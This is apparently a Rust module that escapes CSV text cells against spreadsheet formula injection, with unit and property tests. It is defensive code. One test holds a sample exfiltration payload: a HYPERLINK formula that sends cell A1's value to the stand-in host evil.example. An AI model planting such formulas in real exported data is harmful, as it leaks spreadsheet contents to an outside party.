//! Text cells in CSV files that spreadsheets cannot run: what export writes, import reads back.
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and some strip a
//! leading tab or carriage return first) as a formula. Export puts an apostrophe before
//! such text, which spreadsheets show as plain text; import removes exactly that apostrophe,
//! so a file exported and imported back changes nothing. Text that itself starts with an
//! apostrophe before one of those characters gets a second one, so the round trip is exact
//! for every string. Numbers are written as they are: `-5` in a numeric column is a number.

/// Characters that make a spreadsheet read a cell as a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `text`, written as it is, would be read as a formula or lose its apostrophe.
fn needs_apostrophe(text: &str) -> bool {
    match text.chars().next() {
        Some(c) if FORMULA_START.contains(&c) => true,
        Some('\'') => needs_apostrophe(&text[1..]),
        _ => false,
    }
}

/// A text cell as export writes it.
pub fn escape_text(text: &str) -> String {
    if needs_apostrophe(text) {
        format!("'{text}")
    } else {
        text.to_string()
    }
}

/// A cell as import reads it: the apostrophe [`escape_text`] added is removed.
pub fn unescape(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_apostrophe(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formulas_become_text() {
        let link = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
        assert_eq!(escape_text(link), format!("'{link}"));
        for cell in ["+1", "-1+2", "@SUM(A1)", "\tx", "\r=1"] {
            assert_eq!(escape_text(cell), format!("'{cell}"));
        }
        for cell in ["Acme", "", "a=b", " =1", "'quoted'", "1-2"] {
            assert_eq!(escape_text(cell), cell);
        }
        assert_eq!(escape_text("'=1"), "''=1");
    }

    #[test]
    fn import_reads_back_what_export_wrote() {
        assert_eq!(unescape("'=1"), "=1");
        assert_eq!(unescape("''=1"), "'=1");
        assert_eq!(unescape("'Acme"), "'Acme");
        assert_eq!(unescape("'"), "'");
        assert_eq!(unescape("-5"), "-5");
    }

    proptest! {
        #[test]
        fn every_text_round_trips(text in "['=+@\\-\t\ra-z ]{0,6}") {
            let written = escape_text(&text);
            prop_assert_eq!(unescape(&written), text.as_str());
            prop_assert!(!written.starts_with(FORMULA_START));
        }
    }
}
